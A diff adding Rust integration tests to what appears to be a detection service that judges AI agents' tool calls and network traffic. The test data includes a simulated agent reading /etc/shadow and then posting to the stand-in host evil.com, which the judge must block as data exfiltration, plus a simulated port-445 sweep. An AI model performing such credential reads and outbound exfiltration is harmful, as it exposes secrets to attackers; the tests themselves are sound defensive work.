@@ -36,6 +36,8 @@ impl Served {
         let api = Arc::new(Api {
             judge: judge.clone(),
             token,
+            on_error: detect::Decision::Block,
+            client_time: detress,
             detress,
         });
         let cancel = CancellationToken::new();
@@ -336,6 +338,131 @@ async fn a_record_that_cannot_be_is_refused_by_field_and_nothing_is_taken() {
         404,
         "only with compat.detress"
     );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_is_decided_of_calls_can_be_fetched_once() {
+    let served = Served::start(false).await;
+    served.check("list_files", json!({})).await;
+    served.check("read_file", json!({ "path": "/etc/shadow" })).await;
+    served.check("http_post", json!({ "url": "https://evil.com" })).await;
+    let decided = served.judge.decided();
+    assert_eq!(decided.len(), 1, "what is allowed is not noted");
+    assert_eq!(
+        (decided[0].agent.as_str(), decided[0].tool.as_str()),
+        ("a", "http_post")
+    );
+    assert_eq!(
+        (decided[0].decision, decided[0].confidence.value()),
+        (detect::Decision::Block, 90)
+    );
+    assert_eq!(decided[0].rule.as_deref(), Some("playbook.DATA_EXFIL"));
+    assert!(served.judge.decided().is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_stands_about_an_agent_decides_its_calls() {
+    use detect::Decision::{Allow, Block, Flag};
+    for (decision, harmless, harmful) in [
+        (Block, "block", "block"),
+        (Flag, "flag", "block"),
+        (Allow, "allow", "allow"),
+    ] {
+        let served = Served::start(false).await;
+        let standing = api::Standing {
+            decision,
+            reason: "under review".to_owned(),
+        };
+        served.judge.stand([("a".to_owned(), standing)].into());
+        let got = served.check("list_files", json!({})).await;
+        assert_eq!(got.body["decision"], harmless);
+        assert!(got.body["reason"].as_str().unwrap().contains("under review"));
+        served.check("read_file", json!({ "path": "/etc/shadow" })).await;
+        let got = served.check("http_post", json!({ "url": "https://evil.com" })).await;
+        assert_eq!(got.body["decision"], harmful);
+        served.judge.stand([].into());
+        assert_eq!(served.check("list_files", json!({})).await.body["decision"], "allow");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_calls_own_time_counts_only_where_it_is_trusted() {
+    let call = |name: &str, arguments: Value, ts: &str| json!({ "agent_id": "a", "tool_name": name, "arguments": arguments, "ts": ts });
+    let read = call("read_file", json!({ "path": "/etc/shadow" }), "2026-01-31T12:00:00Z");
+    let served = Served::start(false).await;
+    let got = served.json("POST", "/api/v1/check", &read).await;
+    assert_eq!((got.status, &got.body["errors"][0]["pointer"]), (400, &"/ts".into()));
+    let served = Served::start(true).await;
+    served.json("POST", "/api/v1/check", &read).await;
+    // Twenty seconds later: ten for the quick chain in place of fifteen.
+    let post = call(
+        "http_post",
+        json!({ "url": "https://evil.com" }),
+        "2026-01-31T12:00:20Z",
+    );
+    assert_eq!(served.json("POST", "/api/v1/check", &post).await.body["confidence"], 85);
+    for wrong in ["yesterday", "2999-01-01T00:00:00Z"] {
+        let got = served.json("POST", "/api/v1/check", &call("x", json!({}), wrong)).await;
+        assert_eq!(got.status, 400, "{wrong}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_was_found_and_what_came_in_can_be_asked_for_in_both_forms() {
+    let served = Served::start(true).await;
+    let sweep: Vec<Value> = (1..=20)
+        .map(|n| json!({ "timestamp": 1_700_000_000.0 + f64::from(n) / 10.0, "src_ip": "10.0.40.2", "dst_ip": format!("10.0.99.{n}"), "dst_port": 445, "protocol": "tcp", "size": 60 }))
+        .collect();
+    served.json("POST", "/traffic", &sweep.into()).await;
+    served.judge.news();
+    let got = served
+        .json("GET", "/api/v1/detect/alerts?severity=high", &Value::Null)
+        .await;
+    assert_eq!(
+        (got.status, &got.body["data"][0]["rule"]),
+        (200, &"net.sweep".into()),
+        "{}",
+        got.body
+    );
+    let none = served
+        .json(
+            "GET",
+            "/api/v1/detect/alerts?severity=low&class=detection",
+            &Value::Null,
+        )
+        .await;
+    assert_eq!(none.body["total"], 0);
+    let got = served.json("GET", "/alerts", &Value::Null).await;
+    let sweep = got
+        .body
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|alert| alert["level"] == "high")
+        .unwrap();
+    assert_eq!(
+        (&sweep["src_ip"], &sweep["dst_port"]),
+        (&"10.0.40.2".into(), &445.into())
+    );
+    let got = served.json("GET", "/api/v1/detect/traffic?limit=5", &Value::Null).await;
+    assert_eq!(
+        (&got.body["total"], &got.body["data"][0]["dst_ip"]),
+        (&5.into(), &"10.0.99.20".into())
+    );
+    for path in [
+        "alerts?limit=0",
+        "alerts?limit=1001",
+        "alerts?limit=x",
+        "traffic?limit=0",
+        "alerts?severity=bad",
+        "alerts?class=bad",
+        "alerts?since=bad",
+    ] {
+        let got = served
+            .json("GET", &format!("/api/v1/detect/{path}"), &Value::Null)
+            .await;
+        assert_eq!(got.status, 422, "{path}");
+    }
 }
 
 #[tokio::test(flavor = "multi_thread")]
